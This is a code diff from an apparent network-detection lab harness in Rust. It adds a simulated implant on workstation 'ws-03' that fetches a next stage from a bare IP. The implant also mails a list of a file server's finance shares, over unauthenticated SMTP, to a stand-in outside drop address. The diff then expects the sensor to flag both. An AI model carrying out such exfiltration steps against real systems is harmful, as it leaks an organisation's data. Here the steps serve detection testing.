@@ -19,6 +19,11 @@ use xtask::{
 use super::{Cli, POLICY, acts, psexec, services, summary::Summary};
 use crate::process::{banner, run as run_cmd, say, sensor_json};
 
+/// What ws-03's implant sends to the outside mail server: an SMTP session with no `AUTH`.
+const MAIL_OUT: &[u8] = b"EHLO ws-03\r\nMAIL FROM:<it-support@corp.example>\r\n\
+    RCPT TO:<drop@files.example.org>\r\nDATA\r\nSubject: shares\r\n\r\n\\\\fs-01\\finance\r\n\
+    .\r\nQUIT\r\n";
+
 pub(super) fn tell(
     lab: &Office,
     sensor: &Path,
@@ -234,6 +239,27 @@ pub(super) fn tell(
         office::DROP_IP,
         done(sent)
     ));
+    let ws03 = lab.host("ws-03");
+    let fetched = acts::get(
+        ws03,
+        office::WWW_IP,
+        office::WWW_IP,
+        80,
+        xtask::story::BROWSER,
+    );
+    say(&format!(
+        "  ws-03: the implant fetches its next stage from http://{}/, a server with no name -> {fetched}",
+        office::WWW_IP
+    ));
+    let mut mx = services::sink(&lab.internet, office::DROP_IP, 25)?;
+    let mailed = acts::send(ws03, office::DROP_IP, 25, MAIL_OUT)?;
+    let _ = mx.wait();
+    say(&format!(
+        "  ws-03: mails a list of fs-01's shares straight to a mail server outside ({}:25), \
+         without authenticating -> {}",
+        office::DROP_IP,
+        done(mailed)
+    ));
     check()?;
     let expected = [
         ("ws-03", "10.77.1.13", "beacon-address"),
@@ -244,6 +270,8 @@ pub(super) fn tell(
         ("ws-02", "10.77.1.12", "remote-execution-rpc"),
         ("ws-02", "10.77.1.12", "smb-write-volume"),
         ("fs-01", "10.77.1.20", "exfiltration"),
+        ("ws-03", "10.77.1.13", "http-to-ip-address"),
+        ("ws-03", "10.77.1.13", "direct-smtp"),
     ];
     for (name, ip, model) in expected {
         let found = cli.wait_for(
